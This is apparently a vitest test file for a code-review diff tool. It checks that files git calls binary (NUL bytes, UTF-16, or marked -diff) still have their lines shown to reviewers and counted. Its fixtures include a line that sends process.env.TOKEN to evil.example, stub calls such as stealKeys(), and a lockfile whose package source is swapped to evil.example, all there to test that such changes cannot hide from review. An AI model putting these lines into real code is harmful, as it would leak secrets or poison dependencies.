/** A file that is text but for NUL bytes, or UTF-16: git calls it binary; the reviewers, maxDiffLines and the board see its lines. */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { removeTempDirs } from '../../test/helpers/db.js';
import { git, makeRepo } from '../../test/helpers/repo.js';
import { diffStats, diffText } from './diff.js';
import { readPatch } from './patch.js';
import { readableText } from './binaryText.js';

afterEach(() => removeTempDirs());

/** A repository whose branch `topic` changes a source file to hold a NUL, adds one, adds one in UTF-16, and an image. */
function hostileChange(): string {
  const repo = makeRepo();
  writeFileSync(join(repo, 'app.ts'), 'export const a = 1;\n');
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '-m', 'base');
  git(repo, 'checkout', '-q', '-b', 'topic');
  writeFileSync(join(repo, 'app.ts'), 'export const a = 1; // \0\nfetch("https://evil.example/" + process.env.TOKEN);\n');
  writeFileSync(join(repo, 'new.ts'), '// \uFFFD \0\nrunEvil();');
  // tsc compiles a source file in UTF-16 with its byte order mark.
  writeFileSync(join(repo, 'wide.ts'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('export const b = 2;\nwideEvil();\n', 'utf16le')]));
  writeFileSync(join(repo, 'logo.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0x00, 0xff, 0xfe, 0x80]));
  git(repo, 'add', '-A');
  git(repo, 'commit', '-q', '-m', 'hostile');
  return repo;
}

describe('a file git calls binary for its NUL bytes', () => {
  it("shows the reviewers its lines, each NUL visible, and leaves an image's change binary", async () => {
    const repo = hostileChange();
    const text = await diffText(repo, 'main', 'topic');
    expect(text).toContain('+fetch("https://evil.example/" + process.env.TOKEN);');
    expect(text).toContain('-export const a = 1;');
    expect(text).toContain('+export const a = 1; // \\u{0}');
    expect(text).toContain('+runEvil();\n\\ No newline at end of file');
    expect(text).toContain('+// \uFFFD \\u{0}');
    expect(text.match(/Git calls this file binary \(NUL bytes\); its change is shown as text/g)).toHaveLength(2);
    expect(text).toContain('[Git calls this file binary (UTF-16); its change is shown as text, each NUL as \\u{0}.]\n@@ -0,0 +1,2 @@\n+export const b = 2;\n+wideEvil();');
    expect(text).toContain('Binary files /dev/null and b/logo.png differ');
    expect(text).not.toContain('\0');
  });

  it('counts its lines toward maxDiffLines, and none for the image', async () => {
    const stats = await diffStats(hostileChange(), 'main', 'topic', []);
    // app.ts: 2 added, 1 deleted; new.ts: 2 added; wide.ts: 2 added; logo.png: none.
    expect(stats).toMatchObject({ files: ['app.ts', 'logo.png', 'new.ts', 'wide.ts'], linesAdded: 6, linesDeleted: 1 });
  });

  it('draws its lines on the board, for the whole change and for the file alone, and the image as binary', async () => {
    const repo = hostileChange();
    const files = await readPatch(repo, 'main', 'topic');
    const app = files.find((f) => f.path === 'app.ts')!;
    expect(app).toMatchObject({ binary: false, gitBinary: 'nul_bytes', additions: 2, deletions: 1, collapsed: false });
    expect(app.hunks.flatMap((h) => h.lines.map((l) => `${l.kind} ${l.oldLine ?? '-'} ${l.newLine ?? '-'} ${l.text}`))).toEqual([
      'del 1 - export const a = 1;',
      'add - 1 export const a = 1; // \0',
      'add - 2 fetch("https://evil.example/" + process.env.TOKEN);',
    ]);
    const added = files.find((f) => f.path === 'new.ts')!;
    expect(added).toMatchObject({ binary: false, additions: 2, deletions: 0 });
    expect(added.hunks[0]!.lines.at(-1)).toMatchObject({ kind: 'add', text: 'runEvil();', newLine: 2, noNewline: true });
    expect(files.find((f) => f.path === 'wide.ts')).toMatchObject({ binary: false, gitBinary: 'utf16' });
    expect(files.find((f) => f.path === 'wide.ts')!.hunks[0]!.lines.map((l) => l.text)).toEqual(['export const b = 2;', 'wideEvil();']);
    expect(files.find((f) => f.path === 'logo.png')).toMatchObject({ binary: true, additions: 0, hunks: [] });
    expect(files.find((f) => f.path === 'logo.png')!.gitBinary).toBeUndefined();
    const [alone] = await readPatch(repo, 'main', 'topic', { file: 'app.ts' });
    expect(alone).toMatchObject({ binary: false, additions: 2, deletions: 1 });
  });

  it('shows a deleted one as its lines going', async () => {
    const repo = hostileChange();
    git(repo, 'checkout', '-q', '-b', 'cleanup');
    git(repo, 'rm', '-q', 'new.ts');
    git(repo, 'commit', '-q', '-m', 'gone');
    const [gone] = await readPatch(repo, 'topic', 'cleanup');
    expect(gone).toMatchObject({ path: 'new.ts', status: 'deleted', binary: false, additions: 0, deletions: 2 });
    expect(await diffText(repo, 'topic', 'cleanup')).toContain('-runEvil();');
  });

  it('shows an image replaced by such a file as the file added whole', async () => {
    const repo = hostileChange();
    git(repo, 'checkout', '-q', '-b', 'swap');
    writeFileSync(join(repo, 'logo.png'), 'ok \0\nstealKeys();\n');
    git(repo, 'commit', '-q', '-am', 'swap');
    const [swapped] = await readPatch(repo, 'topic', 'swap');
    expect(swapped).toMatchObject({ path: 'logo.png', binary: false, additions: 2, deletions: 0 });
    expect(await diffText(repo, 'topic', 'swap')).toContain('+stealKeys();');
  });

  it('tells text from what is not: UTF-16 needs its mark and whole pairs, UTF-8 every byte right', () => {
    const wide = (text: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')]);
    expect(readableText(wide('a\n'))).toEqual({ text: 'a\n', why: 'utf16' });
    expect(readableText(Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from('a', 'utf16le').swap16()]))).toEqual({ text: 'a', why: 'utf16' });
    expect(readableText(wide('a').subarray(0, 3))).toBeNull(); // half a unit
    expect(readableText(Buffer.concat([wide('a'), Buffer.from([0x00, 0xd8])]))).toBeNull(); // an unpaired surrogate
    expect(readableText(Buffer.from([0x61, 0x00, 0xff]))).toBeNull(); // Latin-1, not UTF-8
    expect(readableText(Buffer.from('a\0b'))).toEqual({ text: 'a\0b', why: 'nul_bytes' });
    expect(readableText(Buffer.from('plain'))).toEqual({ text: 'plain', why: null });
  });

  it("shows on the board a text file the project marks -diff (a lockfile), and tells the reviewers its size, not counting it", async () => {
    const repo = makeRepo();
    writeFileSync(join(repo, '.gitattributes'), 'package-lock.json -diff\n');
    writeFileSync(join(repo, 'package-lock.json'), '{\n  "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz"\n}\n');
    git(repo, 'add', '-A');
    git(repo, 'commit', '-q', '-m', 'lock');
    git(repo, 'checkout', '-q', '-b', 'topic');
    writeFileSync(join(repo, 'package-lock.json'), '{\n  "resolved": "https://evil.example/left-pad-1.3.0.tgz"\n}\n');
    git(repo, 'commit', '-q', '-am', 'swap the source');
    const [lock] = await readPatch(repo, 'main', 'topic');
    expect(lock).toMatchObject({ path: 'package-lock.json', binary: false, gitBinary: 'marked_diff', additions: 1, deletions: 1 });
    expect(lock!.hunks[0]!.lines.find((l) => l.kind === 'add')!.text).toBe('  "resolved": "https://evil.example/left-pad-1.3.0.tgz"');
    const text = await diffText(repo, 'main', 'topic');
    expect(text).toContain("[The project's .gitattributes marks this text file -diff: its change (+1 −1 lines) is not shown here.");
    expect(text).not.toContain('evil.example');
    expect(await diffStats(repo, 'main', 'topic', [])).toMatchObject({ files: ['package-lock.json'], linesAdded: 0, linesDeleted: 0 });
  });
});

